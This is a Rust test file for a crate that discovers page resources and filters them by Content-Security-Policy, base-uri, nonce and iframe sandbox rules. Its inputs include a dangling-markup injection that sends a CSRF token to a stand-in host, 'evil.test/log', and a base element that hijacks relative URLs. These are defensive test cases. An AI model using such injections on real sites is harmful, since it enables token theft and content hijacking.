//! Restrictions by a document's policies, and text that only resembles elements.
use http::{HeaderMap, HeaderValue, header};
use longhaul_page::{Discovery, Initiator, Reference, Viewport};

use crate::{page, paths};

/// Returns the paths of the references that this policy and those of the markup allow.
fn admitted(policy: &'static str, html: &str) -> Vec<String> {
    let response: HeaderMap = [(header::CONTENT_SECURITY_POLICY, HeaderValue::from_static(policy))]
        .into_iter()
        .collect();
    let initiator = Initiator::page(&page(), &response);
    let mut discovery = Discovery::of(initiator.clone(), Some("utf-8"), Viewport::default());
    let mut found: Vec<Reference> = discovery.write(html.as_bytes());
    found.extend(discovery.finish());
    let admitted = found
        .into_iter()
        .filter_map(|reference| initiator.admit(reference, 0));
    admitted
        .map(|reference| reference.url.as_str().replace("http://a.test/dir/", ""))
        .collect()
}

#[test]
fn dangling_markup_leaks_no_page_content() {
    let html =
        "<p>hello <img src='http://evil.test/log?\n<form><input name=csrf value=TOKEN></form><a title='x'>";
    assert!(paths(html).is_empty(), "dangling markup");
    let html =
        "<p>hello <img src='http://evil.test/log?<form><input name=csrf value=TOKEN></form><a title='x'>";
    assert_eq!(paths(html).len(), 1, "without a line break browsers fetch it");
    assert!(admitted("default-src 'none'", html).is_empty());
    // An unclosed tag at the end is no element.
    assert!(paths("<p><img src='http://evil.test/log?x").is_empty());
    assert!(paths("<p><img src=http://evil.test/log?x ").is_empty());
}

#[test]
fn text_is_not_read_as_markup() {
    for html in [
        "<textarea><img src=no.png></textarea>",
        "<title><img src=no.png></title>",
        "<noscript><img src=no.png></noscript>",
        "<template><img src=no.png><style>b{background:url(no.png)}</style></template>",
        "<!-- <img src=no.png> -->",
        "<script>'<img src=no.png>'</script>",
        "<style>/* <img src=no.png> */</style>",
        "<xmp><img src=no.png></xmp>",
        "<iframe><img src=no.png></iframe>",
        "<noembed><img src=no.png></noembed>",
        "<noframes><img src=no.png></noframes>",
        "<b title='<img src=no.png>'>",
        "<plaintext><img src=no.png>",
    ] {
        assert!(paths(html).is_empty(), "{html}");
    }
}

#[test]
fn policies_in_markup_apply_to_later_elements() {
    let html = "<meta http-equiv=Content-Security-Policy content=\"img-src 'self'\">
        <img src=own.png><img src=//b.test/other.png>";
    assert_eq!(admitted("script-src 'none'", html), ["own.png"]);
    let html =
        "<meta http-equiv=content-security-policy-report-only content=\"img-src 'none'\"><img src=1.png>";
    assert_eq!(admitted("script-src 'none'", html), ["1.png"]);
}

#[test]
fn a_base_element_must_be_permitted_by_the_policy() {
    let html = "<base href=http://evil.test/><img src=1.png>";
    assert_eq!(paths(html), ["http://evil.test/1.png"]);
    assert_eq!(admitted("base-uri 'none'", html), ["1.png"]);
    assert_eq!(admitted("base-uri 'self'", html), ["1.png"]);
    assert_eq!(
        admitted("base-uri http://evil.test", html),
        ["http://evil.test/1.png"]
    );
}

#[test]
fn a_nonce_applies_to_its_own_element() {
    let policy = "script-src 'nonce-abc'; style-src 'nonce-abc'";
    let html =
        "<script nonce=abc src=1.js></script><script src=no.js></script><script nonce=x src=no.js></script>
        <script src=no.js title='<script' nonce=abc></script><link rel=stylesheet nonce=abc href=2.css>
        <link rel=stylesheet href=no.css><link rel=preload as=script nonce=abc href=3.js>
        <style nonce=abc>b{background:url(4.png)}</style><style>b{background:url(no.png)}</style>
        <b style='background:url(no.png)'><img src=5.png>";
    assert_eq!(
        admitted(policy, html),
        ["1.js", "2.css", "3.js", "4.png", "5.png"]
    );
}

#[test]
fn frames_inherit_and_add() {
    let inner = "<meta http-equiv=content-security-policy content='img-src *'><img src=//b.test/no.png><img src=own.png>";
    let html = format!("<iframe srcdoc=\"{inner}\"></iframe>");
    assert_eq!(admitted("img-src 'self'", &html), ["own.png"]);
    let inner =
        "<meta http-equiv=content-security-policy content=img-src&#32;&apos;none&apos;><img src=no.png>";
    let html = format!("<iframe srcdoc=\"{inner}\"></iframe><img src=1.png>");
    assert_eq!(admitted("img-src *", &html), ["1.png"]);
    // A document with another origin makes requests that do not belong to the page.
    let html = "<iframe sandbox srcdoc='<img src=no.png>'></iframe>
        <iframe sandbox='allow-same-origin' srcdoc='<img src=1.png><script src=no.js></script>'></iframe>";
    assert_eq!(admitted("img-src *", html), ["1.png"]);
}

#[test]
fn plug_ins_have_a_directive_of_their_own() {
    let html = "<object data=o.pdf></object><embed src=e.svg><img src=1.png>";
    assert_eq!(admitted("object-src 'none'", html), ["1.png"]);
    assert_eq!(admitted("img-src *", html), ["o.pdf", "e.svg", "1.png"]);
}
